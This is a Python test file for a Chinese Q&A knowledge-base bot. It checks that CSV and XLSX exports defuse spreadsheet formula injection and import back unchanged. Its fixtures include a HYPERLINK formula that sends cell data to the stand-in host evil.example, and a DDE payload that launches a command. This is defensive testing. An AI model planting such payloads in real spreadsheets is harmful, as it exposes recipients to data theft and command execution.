"""Formula-safe CSV and XLSX (OWASP CSV injection): a text a spreadsheet would run is written
as text, the Q&A export imports back to the same entries, and nothing else writes tables."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from knowledge_base.io import COLUMNS, export_rows, parse
from knowledge_base.sheets import csv_bytes, quote, unquote, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
TRICKY = [
    HYPERLINK,
    DDE,
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # an author's own quote before a formula character survives the round trip
    "''@x",
    "'plain",
    "plain",
    "",
    "答=问",
]


@pytest.mark.parametrize("text", TRICKY)
def test_unquote_gives_back_what_quote_was_given(text: str) -> None:
    quoted = quote(text)
    assert isinstance(quoted, str)
    assert not quoted.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unquote(quoted) == text


def test_only_texts_that_start_like_a_formula_are_quoted() -> None:
    assert quote("如何办理居住证？") == "如何办理居住证？"
    assert quote("答=问") == "答=问"
    assert quote(-3) == -3  # a number is a number, not a formula
    assert quote("-3") == "'-3"
    assert unquote("'plain") == "'plain"  # a quote before ordinary text is the author's


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes) -> list[list[tuple[object, str]]]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # formulas kept as formulas
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_csv_and_xlsx_write_no_live_formula() -> None:
    rows = [[HYPERLINK, DDE, 7, None], ["@x", "-1", -1, "普通"]]
    assert _csv_cells(csv_bytes(["a", "b", "c", "d"], rows))[1:] == [
        ["'" + HYPERLINK, "'" + DDE, "7", ""],
        ["'@x", "'-1", "-1", "普通"],
    ]
    cells = _xlsx_cells(xlsx_bytes(["a", "b", "c", "d"], rows))
    assert cells[1][:3] == [("'" + HYPERLINK, "s"), ("'" + DDE, "s"), (7, "n")]
    assert cells[2][:3] == [("'@x", "s"), ("'-1", "s"), (-1, "n")]
    assert all(kind != "f" for row in cells for _, kind in row)


def _hostile_entries() -> list[dict[str, object]]:
    return [
        {
            "id": "X1",
            "question": HYPERLINK,
            "variants": ["=1+1", "正常问法", "'=2+2"],
            "answer": "-请到窗口办理",
            "category": DDE,
            "department": "@人社局",
            "sensitivity": "ordinary",
            "valid_from": None,
            "valid_until": None,
        },
        {
            "id": "X2",
            "question": "'plain",
            "variants": [],
            "answer": "\t+答",
            "category": "",
            "department": "",
            "sensitivity": "important",
            "valid_from": "2026-01-01",
            "valid_until": None,
        },
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_qa_export_is_formula_safe_and_imports_to_the_same_entries(fmt: str) -> None:
    entries = _hostile_entries()
    data = export_rows(entries, fmt)
    if fmt == "csv":
        row = dict(zip(COLUMNS, _csv_cells(data)[1], strict=True))
        assert row["question"] == "'" + HYPERLINK and row["category"] == "'" + DDE
    else:
        cells = dict(zip(COLUMNS, _xlsx_cells(data)[1], strict=True))
        assert cells["question"] == ("'" + HYPERLINK, "s")
        assert cells["category"] == ("'" + DDE, "s")
        assert cells["department"] == ("'@人社局", "s")
    first, second = parse(data, f"kb.{fmt}")
    assert (first.question, first.category, first.department) == (HYPERLINK, DDE, "@人社局")
    assert first.variants == ["=1+1", "正常问法", "'=2+2"]
    assert first.answer == "-请到窗口办理"
    assert (second.question, second.answer) == ("'plain", "+答")  # answers are stripped anyway


def _writes_tables(path: Path) -> bool:
    """Whether a module builds a CSV writer or an openpyxl Workbook itself."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    for node in ast.walk(tree):
        csv_writer = (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        workbook = (isinstance(node, ast.Attribute) and node.attr == "Workbook") or (
            isinstance(node, ast.ImportFrom)
            and any(alias.name == "Workbook" for alias in node.names)
        )
        if csv_writer or workbook:
            return True
    return False


def test_every_csv_and_xlsx_is_written_through_sheets() -> None:
    writers = sorted(
        str(path.relative_to(ROOT))
        for package in ("bot", "handlers", "workflow", "knowledge_base")
        for path in (ROOT / package).rglob("*.py")
        if _writes_tables(path)
    )
    assert writers == ["knowledge_base/sheets.py"]
